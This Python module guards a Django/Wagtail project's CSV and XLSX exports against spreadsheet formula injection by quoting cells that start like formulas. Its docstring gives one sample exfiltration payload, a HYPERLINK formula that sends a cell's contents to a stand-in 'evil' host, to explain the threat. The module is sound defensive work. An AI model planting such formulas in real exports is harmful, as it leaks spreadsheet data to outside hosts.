"""Spreadsheet exports (CSV and XLSX) whose every cell is safe to open.

A spreadsheet reads a cell that starts with "=", "+", "-" or "@" as a formula, so an officer
named `=HYPERLINK("http://evil/?"&A1,"x")` would run in the lead's spreadsheet when the matrix
is opened ("CSV injection", OWASP; CWE-1236). Every writer here, and (through `CellSafeExport`
and the start-up patch in pathways.apps) every Wagtail listing export, passes each cell through
`cell_safe`, which neutralises such text the way OWASP recommends: a leading single quote,
which a spreadsheet reads as "this is text", and which keeps the original visible after it.
"""

from __future__ import annotations

import csv
import tempfile
import unicodedata
from collections.abc import Callable, Iterable, Iterator
from typing import IO, TYPE_CHECKING, Any, overload

from django.http import FileResponse, StreamingHttpResponse
from django.utils.functional import Promise

if TYPE_CHECKING:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# A cell starting with one of these is, or may be, read as a formula. OWASP's list: = + - @,
# tab, carriage return and line feed; ASVS 1.2.10 adds NUL. Full-width and small forms (＝＋－＠,
# ﹦﹢﹣﹫) and super/subscript signs (⁼⁺⁻, ₌₊₋), which spreadsheets in some locales take for
# the ASCII sign, are caught by comparing the character's NFKC form; U+2212 MINUS SIGN is what
# ⁻ and ₋ fold to, and a minus in its own right.
FORMULA_STARTS = frozenset("=+-@\t\r\n\0\u2212")

QUOTE = "'"


def _formula_start(char: str) -> bool:
    if char in FORMULA_STARTS:
        return True
    return not char.isascii() and unicodedata.normalize("NFKC", char)[:1] in FORMULA_STARTS


def starts_like_formula(text: str) -> bool:
    """Would a spreadsheet read this text as a formula? Leading spaces are looked past too, to
    be safe: an importer that trims them would otherwise be left with a formula."""
    for char in text:
        if _formula_start(char):
            return True
        if not char.isspace():
            return False
    return False


@overload
def cell_safe(value: str | Promise) -> str: ...
@overload
def cell_safe(value: object) -> object: ...
def cell_safe(value: object) -> object:
    """The value to write into a spreadsheet cell: text that would read as a formula gets a
    leading single quote (the original stays visible after it); anything else, including
    numbers, dates and None, is returned unchanged (a lazy translation is text, returned as
    str). Applying it twice changes nothing more: our lists go through two layers."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and starts_like_formula(value):
        return QUOTE + value
    return value


class CellSafeExport:
    """For a view using Wagtail's `SpreadsheetExportMixin`: every cell and heading it writes,
    CSV or XLSX, goes through `cell_safe`. Put it before the Wagtail view in the bases."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        return cell_safe(super().preprocess_field_value(field, value, export_format))  # type: ignore[misc]

    def get_heading(self, queryset: Any, field: str) -> str:
        return cell_safe(super().get_heading(queryset, field))  # type: ignore[misc]


class Echo:
    """The one method of a file that csv.writer needs: returns the line instead of storing it,
    so that rows can be streamed."""

    def write(self, value: str) -> str:
        return value


class Counted:
    """Iterates over `items`, counting them as they go by (the rows an export wrote)."""

    def __init__(self, items: Iterable[Any]) -> None:
        self.items = items
        self.count = 0

    def __iter__(self) -> Iterator[Any]:
        for item in self.items:
            self.count += 1
            yield item


def stream_csv(rows: Iterable[Iterable[object]], filename: str) -> StreamingHttpResponse:
    writer = csv.writer(Echo())
    response = StreamingHttpResponse(
        (writer.writerow([cell_safe(value) for value in row]) for row in rows),
        content_type="text/csv",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def xlsx_response(write: Callable[[IO[bytes]], None], filename: str) -> FileResponse:
    """Write a workbook to a temporary file on disk and stream it from there, so that a large
    export never sits in memory. FileResponse closes (and so deletes) the file when done.

    `write` fills the cells: use `xlsx_cells` (or Wagtail's writer with `CellSafeExport`)."""
    output = tempfile.TemporaryFile()  # noqa: SIM115 (closed by FileResponse)
    write(output)
    output.seek(0)
    return FileResponse(
        output,
        as_attachment=True,
        filename=f"{filename}.xlsx",
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def xlsx_cells(sheet: WriteOnlyWorksheet, row: Iterable[object]) -> Iterator[WriteOnlyCell]:
    """One row of a write-only sheet, each cell through `cell_safe` and stored as a value,
    never as a formula (openpyxl takes any text starting with "=" for one)."""
    from openpyxl.cell import WriteOnlyCell

    for value in row:
        cell = WriteOnlyCell(sheet, cell_safe(value))
        if cell.data_type == "f":
            cell.data_type = "s"
        yield cell


def xlsx_write(rows: Iterable[Iterable[object]], output: IO[bytes]) -> int:
    """Write `rows` (the first is the heading) as a workbook to `output` in openpyxl's
    write-only mode, which keeps no row in memory once it is written; returns the number of
    rows after the heading."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title="Sheet1")
    written = 0
    for row in rows:
        sheet.append(xlsx_cells(sheet, row))
        written += 1
    workbook.save(output)
    return max(written - 1, 0)


def xlsx_file(rows: Iterable[Iterable[object]], filename: str) -> FileResponse:
    return xlsx_response(lambda output: xlsx_write(rows, output), filename)
